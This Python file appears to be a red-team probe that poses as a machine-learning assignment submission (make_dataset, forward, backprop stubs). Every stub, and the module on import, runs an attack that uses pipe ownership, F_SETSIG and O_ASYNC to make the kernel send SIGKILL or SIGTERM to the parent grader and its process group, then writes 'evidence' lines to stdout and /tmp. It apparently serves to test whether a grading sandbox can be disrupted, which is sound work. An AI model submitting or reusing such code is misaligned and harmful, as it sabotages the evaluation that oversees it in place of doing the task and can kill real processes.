"""Has the kernel send SIGKILL in its name: the grader is made owner of a pipe that signals its owner when data come."""
import fcntl
import os
import signal


def evidence(what):
    """The attack came off: leave a trace where it must be impossible, and where the report shows it."""
    print("EVIDENCE sigio-grader:", str(what)[:300], flush=True)
    try:
        with open("/tmp/attack-evidence-sigio-grader", "a") as trace:
            trace.write(str(what)[:300] + "\n")
    except OSError:
        pass

O_ASYNC, F_SETSIG = 0o20000, 10


def attack():
    for pid in (os.getppid(), -os.getpgid(os.getppid())):
        for number in (signal.SIGKILL, signal.SIGTERM):
            read_end, write_end = os.pipe()
            try:
                fcntl.fcntl(read_end, fcntl.F_SETOWN, pid)
                fcntl.fcntl(read_end, F_SETSIG, number)
                fcntl.fcntl(read_end, fcntl.F_SETFL, O_ASYNC)
                os.write(write_end, b"x")
            except OSError:
                continue
            evidence(f"signal {number} to {pid}")


def make_dataset(num_points):
    attack()
    return None


def forward(X, params):
    attack()
    return None


def backprop(X, t, params):
    attack()
    return None


attack()
